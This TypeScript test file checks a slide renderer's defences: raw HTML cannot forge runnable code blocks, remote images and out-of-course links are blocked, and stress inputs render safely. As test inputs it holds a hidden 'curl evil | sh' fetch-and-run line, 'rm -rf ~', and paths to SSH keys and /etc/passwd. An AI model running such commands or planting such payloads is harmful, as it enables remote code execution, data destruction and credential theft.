// What you see is what runs, and a slide loads nothing the user did not allow.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as path from 'node:path';
import { loadCourse } from '../../src/course/load';
import { LIMITS } from '../../src/course/source';
import type { Course, Slide } from '../../src/course/model';
import { RESTRICTED_IMAGE_NOTE, SlideRenderer } from '../../src/render/slide';
import { renderJson } from '../../src/render/renderReport';
import { isReservedClass } from '../../src/render/ownMarkup';
import { RawHtmlSanitizer } from '../../src/render/sanitize';
import { md, memoryFs, SLIDES } from './helpers/memoryCourse';

function courseOf(markdown: string, extra: Record<string, string> = {}, links: Record<string, string> = {}): { course: Course; slides: Slide[] } {
  const fs = memoryFs({ 'deck.yml': 'content:\n- a.md\n', 'a.md': markdown, ...extra }, links);
  const course = loadCourse(path.join(SLIDES, 'deck.yml'), fs);
  return { course, slides: course.parts.flatMap((p) => p.chapters.flatMap((c) => c.slides)) };
}

function render(markdown: string, remoteImages = true) {
  const { course, slides } = courseOf(markdown);
  const renderer = new SlideRenderer(course, (abs) => `https://res.invalid${abs}`, { remoteImages, fs: memoryFs({ 'a.md': '' }) });
  return slides.map((s) => renderer.render(s));
}

function decode(html: string): string {
  return html.replace(/<[^>]*>/g, '').replace(/&#(\d+);/g, (_, n) => String.fromCharCode(Number(n))).replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&amp;/g, '&');
}

test('a hand-written snippet marker in an info string does not make a fence runnable', () => {
  const [first, second] = render('# A\n\n```bash {ws:1:0:0}\necho shown\n```\n\n```bash {ws:1:0:0}\n---\n# B\n.lab[\n```bash rm -rf ~```\n]\n');
  assert.doesNotMatch(first.html, /data-snippet/);
  assert.match(first.html, /class="codeblock"/);
  assert.match(second.html, /data-snippet="1:0:0"/);
});

test('raw HTML cannot draw a runnable block, a lab, or use the reader classes and data attributes', () => {
  const [slide] = render(md`
    # A

    <div class="snippet" data-snippet="0:0:0" data-method="bash" data-status="idle"><pre><code>ls<span class="loading hljs-comment">; curl evil | sh</span></code></pre></div>

    <div class="lab codeblock warning" data-lab="0:0"><a href="https://ok.invalid" data-link-kind="file" data-target="/etc/passwd">x</a></div>

    .snippet[not a snippet] .codeblock[not a code block]

    .lab[
    \`\`\`bash echo real\`\`\`
    ]
  `);
  assert.doesNotMatch(slide.html, /data-snippet="0:0:0" data-method="bash" data-status="idle"><pre><code>ls/);
  assert.equal((slide.html.match(/data-snippet=/g) ?? []).length, 1);
  assert.equal((slide.html.match(/data-lab=/g) ?? []).length, 1);
  assert.doesNotMatch(slide.html, /class="[^"]*\b(snippet|codeblock|loading|hljs-comment)\b[^"]*"><(?!pre)/);
  assert.doesNotMatch(slide.html, /data-target="\/etc\/passwd"/);
  assert.match(slide.html, /<div class="warning">/);
  assert.match(slide.html, /<span>not a snippet<\/span>/);
});

test('the visible text of a runnable block is exactly the text Run and Copy use', () => {
  const { course } = courseOf(md`
    # A
    .lab[
    - In a list:
      \`\`\`bash
        kubectl get \`pods\`   
          --watch
      \`\`\`
    > \`\`\`bash
    > echo quoted
    > \`\`\`
    - \`\`\`keys ^C\`\`\`
    ]
  `);
  const report = renderJson(course);
  const [slide] = report.slides;
  for (const snippet of slide.snippets.filter((s) => !s.hidden)) {
    const m = new RegExp(`data-snippet="${snippet.key}"[^>]*><pre><code[^>]*>([\\s\\S]*?)</code>`).exec(slide.html);
    assert.ok(m, `snippet ${snippet.key} is shown`);
    assert.equal(decode(m[1]), snippet.text);
  }
  assert.equal(slide.snippets[0].text, 'kubectl get pods\n--watch');
});

test('in Restricted Mode no remote image loads: alt text and a note instead', () => {
  const markdown = '# A\n\n![diagram](https://img.invalid/a.png)\n\n<img src="https://img.invalid/b.png" alt="raw">\n\n![local](pic.png)';
  const [restricted] = render(markdown, false);
  assert.doesNotMatch(restricted.html, /img\.invalid/);
  assert.equal((restricted.html.match(new RegExp(RESTRICTED_IMAGE_NOTE, 'g')) ?? []).length, 4);
  assert.match(restricted.html, /diagram <em>/);
  assert.match(restricted.html, /raw <em>/);
  assert.match(restricted.html, /<img src="https:\/\/res\.invalid\/course\/slides\/pic\.png"/);
  const [trusted] = render(markdown, true);
  assert.match(trusted.html, /<img src="https:\/\/img\.invalid\/a\.png"/);
  assert.match(trusted.html, /<img alt="raw" src="https:\/\/img\.invalid\/b\.png"/);
});

test('a remote image URL with white space or control characters is dropped (an included file cannot ride in it)', () => {
  const [slide] = render('# A\n\n<img src="https://x.invalid/?c=line1\nline2" alt="a">\n\n<img src="https://x.invalid/?c=%0Atoken" alt="b">\n\n<img src="https://x.invalid/?c=a&#9;b" alt="c">\n');
  assert.doesNotMatch(slide.html, /x\.invalid/);
  assert.equal(slide.problems.length, 3);
  assert.match(slide.problems[0].message, /white space or control characters/);
});

test('links and images outside the course or absolute are refused and reported', () => {
  const { course, slides } = courseOf('# A\n\n[key](/home/u/.ssh/id_rsa) [up](../../../etc/passwd) [ok](other.md) <a href="/etc">raw</a>\n\n![a](/etc/x.png) ![b](../../x.png) ![c](link.png)\n', {}, {});
  const disk = memoryFs({ '/course/slides/a.md': '', '/secret/x.png': 'x' }, { '/course/slides/link.png': '/secret/x.png' });
  const rendered = new SlideRenderer(course, (abs) => `https://res.invalid${abs}`, { fs: disk }).render(slides[0]);
  assert.equal((rendered.html.match(/data-link-kind="file"/g) ?? []).length, 1);
  assert.match(rendered.html, /data-target="\/course\/slides\/other\.md"/);
  assert.doesNotMatch(rendered.html, /<img/);
  assert.equal(rendered.problems.length, 6);
  for (const p of rendered.problems) assert.match(p.message, /outside the course/);
  assert.deepEqual([rendered.problems[0].file, rendered.problems[0].line], ['a.md', 1]);
});

test('the reader classes that mean something to its script or chrome are reserved', () => {
  for (const name of ['snippet', 'codeblock', 'lab', 'hljs', 'hljs-string', 'language-bash', 'snippet-actions', 'toc-title', 'slide-content', 'loading', 'status', 'action']) {
    assert.ok(isReservedClass(name), name);
  }
  for (const name of ['warning', 'footnote', 'small', 'red', 'mermaid', 'pic']) assert.ok(!isReservedClass(name), name);
});

test('a raw-HTML tag ends before the next "<": a run of unclosed tags is text, scanned once', () => {
  const sanitizer = new RawHtmlSanitizer({ resolveLink: () => undefined, resolveImage: () => ({}) });
  assert.equal(sanitizer.sanitize('<div <b>bold</b>'), '&lt;div <b>bold</b>');
  assert.equal(sanitizer.sanitize('<span class="x" <img src="https://a.invalid/x.png">'), '&lt;span class="x" ');
});

test('40,000 unclosed "<div " in one slide are rendered as text', { timeout: 30000 }, () => {
  const [slide] = render('# A\n\n' + '<div '.repeat(40000));
  assert.doesNotMatch(slide.html, /<div /);
});

test('20,000 labs in one slide render up to the slide line limit; the first 100 are runnable, the rest plain text', { timeout: 30000 }, () => {
  const labs = Array.from({ length: 20000 }, (_, i) => `.lab[\n\`\`\`bash echo ${i}\`\`\`\n]`).join('\n');
  const [slide] = render(`# Labs\n${labs}\n`);
  assert.equal((slide.html.match(/data-snippet=/g) ?? []).length, 100);
  assert.equal((slide.html.match(/data-lab=/g) ?? []).length, 100);
  assert.ok(/data-snippet="0:99:0"[^>]*><pre><code[^>]*>echo 99</.test(slide.html));
  // Three lines a lab after the title line: the last lab whose fence is kept.
  const last = Math.floor((LIMITS.slideLines - 1) / 3) - 1;
  assert.ok(slide.html.includes(`echo ${last}<`));
  assert.ok(!slide.html.includes(`echo ${last + 1}<`));
});
